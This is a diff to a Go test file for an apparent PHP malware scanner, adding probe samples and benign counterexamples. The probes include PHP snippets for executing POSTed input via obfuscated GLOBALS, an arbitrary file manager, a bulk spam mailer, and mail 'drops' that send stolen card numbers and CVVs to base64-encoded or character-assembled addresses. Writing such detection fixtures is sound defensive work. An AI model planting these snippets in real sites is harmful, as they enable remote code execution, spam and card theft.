@@ -78,6 +78,12 @@ var probes = []struct{ name, rule, src string }{
 	{"escaped GLOBALS store", "php.exec-input", `<?php ${"\x47\x4c\x4f\x42\x41\x4c\x53"}['k'] = "\x61\x73\x73\x65\x72\x74"; $GLOBALS['k']($_POST['x']);`},
 	{"file manager", "php.file-manager", `<?php $d = $_GET['d']; foreach (scandir($d) as $f) echo $f; if (isset($_GET['del'])) unlink($_GET['del']);
 		if (isset($_GET['read'])) readfile($_GET['read']); chmod($_POST['p'], 0777); rename($_POST['a'], $_POST['b']);`},
+	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
+		for ($i = 0; $i < count($to); $i++) { mail($to[$i], $_POST['subject'], stripslashes($_POST['body']), $h); }`},
+	{"concealed drop", "php.mail-drop", `<?php $m = "Card: " . $_POST['cc'] . " CVV: " . $_POST['cvv'];
+		$to = base64_decode('ZHJvcEBleGFtcGxlLmludmFsaWQ='); mail($to, "new card", $m);`},
+	{"assembled drop", "php.mail-drop", `<?php $c = array('d', 'r', 'o', 'p', '@', 'x', '.', 'i', 'n'); $to = $c[0].$c[1].$c[2].$c[3].$c[4].$c[5].$c[6].$c[7].$c[8];
+		mail($to, "login", $data);`},
 }
 
 // benign are legitimate code that uses the same functions: none may be
@@ -101,6 +107,11 @@ var benign = []struct{ name, src string }{
 	{"installer eval", `<?php $ver = '8.1'; eval('$ok = version_compare(PHP_VERSION, "' . $ver . '", ">=");');`},
 	{"read own file", `<?php $lines = file(__FILE__); echo count($lines);`},
 	{"template variable", "<form><input name=title></form>\n<?php echo htmlspecialchars($title); include 'footer.php';"},
+	{"contact form", `<?php mail('owner@example.com', 'Contact: ' . $_POST['subject'], $_POST['message'], 'From: ' . $_POST['email']);`},
+	{"send me a copy", `<?php $h = 'From: noreply@example.com'; mail('owner@example.com', $_POST['s'], $_POST['m'], $h);
+		if (!empty($_POST['copy'])) { mail($_POST['email'], $_POST['s'], $_POST['m'], $h); }`},
+	{"configured recipient", `<?php $cfg = parse_ini_file('config.ini'); mail($cfg['admin'], 'Report', $body);`},
+	{"split literal address", `<?php mail('webmaster@' . 'example.com', 'Cron done', 'ok');`},
 }
 
 func TestProbes(t *testing.T) {
